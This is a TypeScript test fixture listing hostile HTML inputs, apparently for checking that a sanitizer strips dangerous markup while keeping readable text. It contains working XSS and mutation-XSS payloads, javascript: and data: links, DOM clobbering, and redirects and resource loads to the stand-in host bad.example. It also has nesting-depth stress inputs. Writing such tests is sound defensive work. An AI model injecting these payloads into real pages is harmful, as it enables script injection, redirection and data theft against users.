/** What strangers send. `BAD` marks what must not survive; `GOOD` what people must still be able to read. */
export const hostile: Readonly<Record<string, string>> = {
  script: 'GOOD<script>globalThis.BAD = 1; top.location = "https://bad.example/BAD"</script>',
  'script in capitals, unclosed': 'GOOD<ScRiPt src=//bad.example/BAD.js>',
  'event handlers':
    'GOOD<img src=x onerror="globalThis.BAD=1"><b onmouseover=BAD()>GOOD</b><details open ontoggle=BAD()>GOOD</details>',
  'javascript link':
    'GOOD<a href="javascript:BAD()">GOOD</a><a href=" java&#10;script:BAD()">GOOD</a><a href="JaVaScRiPt&colon;BAD()">GOOD</a>',
  'data link': 'GOOD<a href="data:text/html,<script>BAD()</script>">GOOD</a>',
  'page-covering style':
    'GOOD<div style="position:fixed;inset:0;z-index:9999;background:url(https://bad.example/BAD)">GOOD</div>',
  'style sheet': 'GOOD<style>@import "https://bad.example/BAD.css"; body{display:none}</style>',
  svg: 'GOOD<svg onload=BAD()><animate onbegin=BAD() attributeName=x dur=1s><a href="javascript:BAD()"><text>x</text></a></svg>',
  'mutation through math':
    'GOOD<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=BAD()&gt;">',
  'mutation through noscript': 'GOOD<noscript><p title="</noscript><img src=x onerror=BAD()>">',
  'mutation through svg style': 'GOOD<svg></p><style><a id="</style><img src=1 onerror=BAD()>">',
  'mutation through template': 'GOOD<template><img src=x onerror=BAD()></template>',
  'nested form':
    'GOOD<form action="https://bad.example/BAD"><input name=q><button formaction=javascript:BAD()>GOOD</button></form>',
  frame: 'GOOD<iframe src="https://bad.example/BAD" srcdoc="<script>parent.BAD=1</script>"></iframe>',
  'object and embed':
    'GOOD<object data="https://bad.example/BAD.swf"><embed src="https://bad.example/BAD"></object>',
  'base and refresh':
    'GOOD<base href="https://bad.example/BAD/"><meta http-equiv="refresh" content="0;url=https://bad.example/BAD">',
  'tracking picture':
    'GOOD<img src="https://bad.example/BAD.gif" width=1 height=1><img srcset="https://bad.example/BAD 2x">',
  'picture of style':
    'GOOD<table background="https://bad.example/BAD"><tr><td style="background-image:url(//bad.example/BAD)">GOOD</td></tr></table>',
  'clobbering names':
    'GOOD<form id=app><input name=attributes></form><img name=getElementById><a id=BAD-free>GOOD</a>',
  'unclosed comment': 'GOOD<!-- <img src=x onerror=BAD()>',
  'null bytes': 'GOOD<scr\u0000ipt>BAD()</scr\u0000ipt><img sr\u0000c=x onerr\u0000or=BAD()>',
  'deep nesting': `${'<div>'.repeat(5000)}GOOD`,
  'many attributes': `GOOD<p ${'a=1 '.repeat(3000)} onclick=BAD()>GOOD</p>`,
};
